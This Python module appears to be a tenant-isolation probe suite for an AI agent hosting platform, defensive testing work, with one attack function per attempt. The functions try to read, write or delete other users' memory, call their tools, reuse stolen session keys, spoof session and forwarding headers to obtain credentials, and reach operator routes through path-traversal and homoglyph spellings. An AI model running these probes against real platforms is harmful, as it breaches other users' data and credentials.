"""The session endpoint, the one place a session reaches: other users' memory, tools, credentials and sessions."""

from __future__ import annotations

import json
import time
from collections.abc import Callable
from functools import partial
from typing import Any
from urllib.parse import quote

from .attack import ENDPOINT, Blocked, NoControl, Target, Victim, any_of, attack, in_masked, masked, unmasked
from .signing import Refused, base_url, http, own_keys, signed

#: As it came with the last invocation.
workload_token: str | None = None

_TEXT = [{"conversational": {"role": "USER", "content": {"text": "written by the probe"}}}]
SESSION = "X-Amzn-Bedrock-AgentCore-Runtime-Session-Id"
USER = "X-Amzn-Bedrock-AgentCore-Runtime-User-Id"


def own_keys_masked() -> dict[str, Any]:
    return {"keys": [masked(key) for key in own_keys()], "token": masked(workload_token or "")}


def encoded(text: str) -> str:
    return quote(text, safe="")


def actor(victim: Victim, user: str | None = None) -> str:
    return f"/memories/{victim.memory}/actor/{encoded(user or victim.user)}"


def holding(canary: str, answer: bytes) -> bytes:
    """The answer, if the victim's canary is in it."""
    if not in_masked(canary, answer):
        raise Blocked("answered, with nothing of the other user's")
    return b"the other user's canary: " + answer[:100]


# --- Memory


@attack(ENDPOINT)
def events_of_other_users(target: Target) -> Any:
    """List another user's events."""
    return any_of([partial(signed, "POST", f"{actor(one)}/sessions/s", {}) for one in target.victims])


@attack(ENDPOINT)
def events_by_other_spellings(target: Target) -> Any:
    """List another user's events by names that look like his, or that paths make into his."""

    def spellings(user: str) -> list[str]:
        me = target.me.user
        return [user, f"{me}/../{user}", f"../{user}", f"{user}/", f"{user}\0", f" {user}", f"{me},{user}",
                user.upper(), user.replace("e", "\u0435"), f"%{ord(user[0]):02x}{user[1:]}"]  # fmt: skip

    def seen(victim: Victim, name: str) -> bytes:
        return holding(victim.canary, signed("POST", f"{actor(victim, name)}/sessions/s", {}))

    return any_of([partial(seen, one, name) for one in target.victims for name in spellings(one.user)])


@attack(ENDPOINT)
def events_by_id(target: Target) -> Any:
    """Get another user's event by its id, in his name and in one's own."""

    def seen(victim: Victim, user: str) -> bytes:
        path = f"{actor(victim, user)}/sessions/s/events/{encoded(victim.event)}"
        return holding(victim.canary, signed("GET", path))

    return any_of([partial(seen, one, user) for one in target.victims for user in (one.user, target.me.user)])


@attack(ENDPOINT)
def sessions_of_other_users(target: Target) -> Any:
    """List another user's conversations."""
    return any_of([partial(signed, "POST", f"{actor(one)}/sessions", {}) for one in target.victims])


@attack(ENDPOINT)
def names_of_other_users(target: Target) -> Any:
    """Learn which users there are."""

    def named(victim: Victim) -> str:
        found = json.loads(signed("POST", f"/memories/{victim.memory}/actors", {}))
        return {one["actorId"]: "is told of" for one in found["actorSummaries"]}[victim.user]

    return any_of([partial(named, one) for one in target.victims])


@attack(ENDPOINT)
def events_written_for_others(target: Target) -> Any:
    """Put words into another user's memory."""

    def written(victim: Victim) -> bytes:
        event = {"actorId": victim.user, "sessionId": "s2", "eventTimestamp": time.time(), "payload": _TEXT}
        return signed("POST", f"/memories/{victim.memory}/events", event)

    return any_of([partial(written, one) for one in target.victims])


@attack(ENDPOINT)
def events_of_others_deleted(target: Target) -> Any:
    """Delete another user's event."""

    def deleted(victim: Victim) -> bytes:
        event = victim.event
        if target.control:
            made = {"actorId": victim.user, "sessionId": "s", "eventTimestamp": time.time(), "payload": _TEXT}
            event = json.loads(signed("POST", f"/memories/{victim.memory}/events", made))["event"]["eventId"]
        return signed("DELETE", f"{actor(victim)}/sessions/s/events/{encoded(event)}")

    return any_of([partial(deleted, one) for one in target.victims])


@attack(ENDPOINT)
def records_of_other_users(target: Target) -> Any:
    """List another user's long-term records, by his namespace and by everybody's."""

    def listed(victim: Victim, namespace: str) -> bytes:
        path = f"/memories/{victim.memory}/memoryRecords"
        return holding(victim.canary, signed("POST", path, {"namespace": namespace, "maxResults": 100}))

    return any_of([partial(listed, one, space) for one in target.victims for space in spaces(one)])


@attack(ENDPOINT)
def records_searched(target: Target) -> Any:
    """Search for another user's long-term records by their words."""

    def searched(victim: Victim, namespace: str) -> bytes:
        query = {"namespace": namespace, "searchCriteria": {"searchQuery": "canary of this user", "topK": 100}}
        return holding(victim.canary, signed("POST", f"/memories/{victim.memory}/retrieve", query))

    return any_of([partial(searched, one, space) for one in target.victims for space in spaces(one)])


def namespace(user: str) -> str:
    """Where a user's records are, by a template that is usual (docs/decisions/0009)."""
    return f"/strategies/verify/actors/{user}/"


def spaces(victim: Victim) -> list[str]:
    own = namespace(victim.user)
    return [own, own.rstrip("/"), own.removesuffix(f"{victim.user}/"), "/"]


@attack(ENDPOINT)
def records_by_id(target: Target) -> Any:
    """Get another user's long-term record by its id."""

    def seen(victim: Victim) -> bytes:
        path = f"/memories/{victim.memory}/memoryRecord/{encoded(victim.record)}"
        return holding(victim.canary, signed("GET", path))

    return any_of([partial(seen, one) for one in target.victims])


# --- Tools


def mcp(target: Target, method: str, parameters: dict[str, Any]) -> Any:
    headers = {"Accept": "application/json, text/event-stream", "MCP-Protocol-Version": "2025-06-18"}
    message = {"jsonrpc": "2.0", "id": 1, "method": method, "params": parameters}
    answer = json.loads(signed("POST", f"/gateways/{target.gateway}/mcp", message, headers=headers))
    if "error" in answer:
        raise Refused(str(answer["error"]))
    return answer["result"]


@attack(ENDPOINT)
def tools_of_others_seen(target: Target) -> Any:
    """See a tool that another user may call, and this one may not."""
    listed = [tool["name"] for tool in mcp(target, "tools/list", {})["tools"]]
    found = [victim.tool for victim in target.victims if victim.tool and victim.tool in listed]
    return first(found, "no tool but one's own")


@attack(ENDPOINT)
def tools_of_others_called(target: Target) -> Any:
    """Call a tool that another user may call, and this one may not."""

    def called(tool: str) -> str:
        result = mcp(target, "tools/call", {"name": tool, "arguments": {}})
        said = json.dumps(result)
        # What is refused for who asks is told so; anything else means that the call went on to the tool.
        if result.get("isError") and ("Denied" in said or "not authorized" in said):
            raise Refused(said[:200])
        return said[:200]

    return any_of([partial(called, one.tool) for one in target.victims if one.tool])


def first(found: list[str], otherwise: str) -> str:
    if not found:
        raise Blocked(otherwise)
    return found[0]


# --- Credentials


@attack(ENDPOINT)
def keys_of_other_sessions(target: Target) -> Any:
    """Use another session's keys (stolen from it, living or ended) at this session's endpoint."""

    def used(victim: Victim) -> bytes:
        keys = [unmasked(key) for key in victim.keys] if victim.keys else own_keys()
        return signed("POST", f"{actor(victim)}/sessions/s", {}, keys=keys)

    return any_of([partial(used, one) for one in target.victims if one.keys or target.control])


@attack(ENDPOINT)
def credentials_by_headers(target: Target) -> Any:
    """Be given another session's keys by naming it, its user, or another place it asks from."""
    mine = target.aim([own_keys()[0]], [""])[0]
    for victim in target.victims:
        headers = {SESSION: victim.session, USER: victim.user, "X-Forwarded-For": victim.session, "Host": "127.0.0.1"}
        if own_keys(headers)[0] != mine:
            return "keys that are not this session's"
    raise Blocked("its own keys, whoever it says it is")


@attack(ENDPOINT)
def workload_tokens_for_others(target: Target) -> Any:
    """Get proof of acting for another user."""

    def got(victim: Victim, name: str, more: dict[str, str]) -> str:
        asked = {"workloadName": victim.workload, **more}
        return "a token" if signed("POST", f"/identities/GetWorkloadAccessToken{name}", asked) else ""

    attempts: list[Callable[[], Any]] = []
    for one in target.victims:
        for workload in (one, target.me):
            attempts.append(partial(got, workload, "ForUserId", {"userId": one.user}))
        attempts.append(partial(got, one, "", {}))
    # Agents are given their proof, and ask for none: the control is another operation, signed and sent in the same way.
    return any_of(target.aim(attempts, [lambda: signed("POST", f"/memories/{target.me.memory}/actors", {})]))


@attack(ENDPOINT)
def workload_tokens_of_others(target: Target) -> Any:
    """Get a secret of the vault by another session's proof."""

    def got(victim: Victim) -> str:
        token = unmasked(victim.token) if victim.token else workload_token
        asked = {"workloadIdentityToken": token, "resourceCredentialProviderName": target.provider}
        return "the key" if json.loads(signed("POST", "/identities/api-key", asked))["apiKey"] else ""

    return any_of([partial(got, one) for one in target.victims if one.token or target.control])


# --- Other sessions


@attack(ENDPOINT)
def other_sessions_invoked(target: Target) -> Any:
    """Speak to another user's session, in his name and in one's own."""
    if target.control and target.me.bearer:
        raise NoControl("its runtime takes users' tokens only")

    def asked(victim: Victim, user: str) -> bytes:
        headers = {SESSION: victim.session, USER: user} if user else {SESSION: victim.session}
        return signed("POST", f"/runtimes/{encoded(victim.runtime)}/invocations", {"do": "who"}, headers=headers)

    return any_of([partial(asked, one, user) for one in target.victims for user in (one.user, "")])


@attack(ENDPOINT)
def commands_in_other_sessions(target: Target) -> Any:
    """Run a command in another user's session."""
    if target.control and target.me.bearer:
        raise NoControl("its runtime takes users' tokens only")

    def ran(victim: Victim) -> bytes:
        path = f"/runtimes/{encoded(victim.runtime)}/commands"
        return signed("POST", path, {"command": "true", "timeout": 20}, headers={SESSION: victim.session})

    return any_of([partial(ran, one) for one in target.victims])


@attack(ENDPOINT)
def other_sessions_stopped(target: Target) -> Any:
    """End another user's session."""

    def stopped(victim: Victim) -> bytes:
        path = f"/runtimes/{encoded(victim.runtime)}/stopruntimesession"
        return signed("POST", path, {}, headers={SESSION: victim.session})

    attempts = [partial(stopped, one) for one in target.victims]
    # Stopping itself would end the probe: the control is another operation, signed and sent in the same way.
    return any_of(target.aim(attempts, [lambda: signed("POST", f"/memories/{target.me.memory}/actors", {})]))


# --- The operator's side


@attack(ENDPOINT)
def operators_routes(target: Target) -> Any:
    """The platform's own routes: sessions, logs, usage, traces, audit, code; plainly and signed."""
    sessions = [one.session for one in target.victims[:2]]
    runtime = target.me.runtime.rsplit("/", 1)[-1]
    paths = ["/sessions", "//sessions", "/%73essions", "/credentials/../sessions", "/v1/../sessions", "/alerts",
             "/audit", "/oidc/token", "/artifacts/agentkeep-deploy/x", f"/catalogue/{target.gateway}", "/ports/keys",
             *(f"/logs/{one}" for one in sessions), *(f"/traces/{runtime}/{one}" for one in sessions),
             *(f"/usage/{runtime}/{one}" for one in sessions)]  # fmt: skip
    attempts = [partial(http, "GET", base_url() + path) for path in paths]
    attempts += [partial(signed, "GET", path) for path in paths]
    return any_of(target.aim(attempts, [lambda: http("GET", base_url() + "/credentials")[:0] or b"answered"]))


@attack(ENDPOINT)
def operations_of_operators(target: Target) -> Any:
    """List and change what only operators may: agents, memories, identities, providers."""
    runtime = target.me.runtime.rsplit("/", 1)[-1]
    operations = [
        ("POST", "/runtimes/", {}), ("GET", f"/runtimes/{runtime}/", None), ("POST", "/memories/", {}),
        ("PUT", f"/memories/{target.me.memory}/update", {"eventExpiryDuration": 365}),
        ("POST", "/identities/ListWorkloadIdentities", {}), ("POST", "/identities/ListApiKeyCredentialProviders", {}),
        ("POST", "/identities/GetApiKeyCredentialProvider", {"name": target.provider}),
        ("GET", "/gateways/", None), ("PUT", f"/resourcepolicy/{encoded(target.me.runtime)}", {"policy": "{}"}),
    ]  # fmt: skip
    allowed: list[tuple[str, str, Any]] = [("POST", f"/memories/{target.me.memory}/actors", {})]
    return any_of([partial(signed, *one) for one in target.aim(operations, allowed)])
